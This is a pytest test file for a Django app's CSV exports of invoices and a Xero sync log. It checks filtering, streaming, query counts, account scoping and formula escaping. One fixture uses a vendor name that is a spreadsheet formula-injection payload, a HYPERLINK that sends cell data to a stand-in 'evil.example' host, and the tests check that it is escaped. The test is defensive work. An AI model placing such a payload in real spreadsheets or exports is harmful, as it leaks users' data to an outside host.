"""Export CSV of Contacts > Payments and of the Sync log: the current search, every row, streamed, spreadsheet-safe."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from accounting.sync.models import AccountingSync, SyncKind, SyncState
from integrations.models import XeroAccount
from invoicing import services
from tests.factories import VendorFactory, invoice_create, order_create

pytestmark = pytest.mark.django_db


def _rows(response) -> list[dict]:
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8" and response["Cache-Control"] == "no-store"
    text = b"".join(response.streaming_content).decode()
    assert text.startswith("\ufeff")  # Excel reads the file as UTF-8
    return list(csv.DictReader(io.StringIO(text[1:])))


def _bill(invoice, state: str, **fields) -> AccountingSync:
    xero_account = XeroAccount.objects.get_or_create(account=invoice.account, name="Main entity")[0]
    return AccountingSync.objects.create(
        account=invoice.account,
        xero_account=xero_account,
        invoice=invoice,
        kind=SyncKind.BILL,
        state=state,
        next_attempt_at=timezone.now(),
        **fields,
    )


@pytest.fixture
def books(account, other_account):
    """Four invoices of this account in different states (one vendor's name is a formula), one of another account."""
    formula = VendorFactory(account=account, name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    plain = VendorFactory(account=account, name="Müller Großhandel")
    made = {}
    for key, vendor, issued in [
        ("synced", plain, datetime.date(2026, 3, 2)),
        ("failed", formula, datetime.date(2026, 3, 3)),
        ("never", plain, datetime.date(2026, 3, 4)),
        ("paid", plain, datetime.date(2026, 3, 5)),
    ]:
        made[key] = invoice_create(
            order=order_create(vendor=vendor, sales_order_reference=f"SO-{key}"), issue_date=issued
        )
    made["paid"] = services.invoice_mark_paid(invoice=made["paid"])
    _bill(made["synced"], SyncState.SYNCED, xero_status="AUTHORISED", xero_url="https://go.xero.com/bill/1")
    _bill(made["failed"], SyncState.FAILED, last_error="Account code '310' is not a valid code for this document.")
    _bill(made["paid"], SyncState.CHANGED, xero_status="PAID")
    other = invoice_create(order=order_create(vendor=VendorFactory(account=other_account, name="Other Shop Vendor")))
    made["other"] = other
    return made


def test_payments_export_holds_every_matching_invoice_newest_first_with_its_xero_status(books, viewer_client):
    rows = _rows(viewer_client.get(reverse("invoicing:invoice_export")))

    assert [row["Number"] for row in rows] == [books[key].number for key in ("paid", "never", "failed", "synced")]
    synced = rows[3]
    assert synced == {
        "Number": books["synced"].number,
        "Vendor's invoice number": "",
        "Vendor": "Müller Großhandel",
        "Kind": "Dropship provider",
        "Purchase order": books["synced"].order.number,
        "Sales order": "SO-synced",
        "Issue date": "2026-03-02",
        "Due date": books["synced"].due_date.isoformat(),
        "Status": "Issued",
        "Currency": "GBP",
        "Subtotal": "44.00",
        "Tax": "8.80",
        "Total": "52.80",
        "Xero status": "Synced",
        "Bill status in Xero": "AUTHORISED",
        "Xero bill": "https://go.xero.com/bill/1",
    }
    assert [(row["Status"], row["Xero status"]) for row in rows[:3]] == [
        ("Paid", "Changed since synced"),
        ("Issued", "Not synced"),
        ("Issued", "Failed"),
    ]
    assert rows[2]["Vendor"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'  # not run as a formula
    assert "Other Shop Vendor" not in {row["Vendor"] for row in rows}


def test_payments_export_is_the_current_search_not_the_current_page(books, finance_client):
    # given the list, searched by Xero status and status, on a page link ("after" is a page cursor)
    page = finance_client.get(
        reverse("invoicing:invoice_list"), {"xero_status": "failed", "status": "issued", "after": "x"}
    )
    export_link = reverse("invoicing:invoice_export") + "?xero_status=failed&amp;status=issued"
    assert export_link in page.content.decode()

    rows = _rows(finance_client.get(reverse("invoicing:invoice_export"), {"xero_status": "failed", "status": "issued"}))

    assert [row["Number"] for row in rows] == [books["failed"].number]


def test_a_search_that_cannot_be_used_goes_back_to_the_list_which_says_why(books, finance_client):
    response = finance_client.get(reverse("invoicing:invoice_export"), {"amount_min": "ten"}, follow=True)

    assert response.redirect_chain[0][0] == reverse("invoicing:invoice_list") + "?amount_min=ten"
    assert "Some of the search can't be used" in response.content.decode()


def test_payments_export_reads_in_a_fixed_number_of_queries_however_many_rows(
    books, account, finance_client, django_assert_max_num_queries
):
    vendor = VendorFactory(account=account, name="Bulk")
    for _ in range(30):
        invoice_create(order=order_create(vendor=vendor))
    with django_assert_max_num_queries(10):
        rows = _rows(finance_client.get(reverse("invoicing:invoice_export")))
    assert len(rows) == 34


def test_sync_log_export_follows_its_filter_and_the_account(books, viewer_client):
    all_rows = _rows(viewer_client.get(reverse("sync:log_export")))
    failed = _rows(viewer_client.get(reverse("sync:log_export"), {"state": "failed"}))

    assert len(all_rows) == 3
    assert [
        (row["Invoice"], row["Document"], row["State"], row["What happened"], row["Xero account"]) for row in failed
    ] == [
        (
            books["failed"].number,
            "Bill",
            "Xero refused it",
            "Account code '310' is not a valid code for this document.",
            "Main entity",
        )
    ]
    assert failed[0]["Vendor"].startswith("'=HYPERLINK")
    assert datetime.datetime.strptime(failed[0]["Updated"], "%Y-%m-%d %H:%M:%S")


def test_the_sync_log_offers_its_filter_as_export(books, viewer_client):
    page = viewer_client.get(reverse("sync:log"), {"state": "failed", "page": "2"}).content.decode()
    assert f'href="{reverse("sync:log_export")}?state=failed"' in page


def test_a_sync_log_filter_that_cannot_be_used_goes_back_to_the_log(books, viewer_client):
    response = viewer_client.get(reverse("sync:log_export"), {"date_from": "2026-03-05", "date_to": "2026-03-01"})
    assert response.status_code == 302 and response["Location"].startswith(reverse("sync:log"))
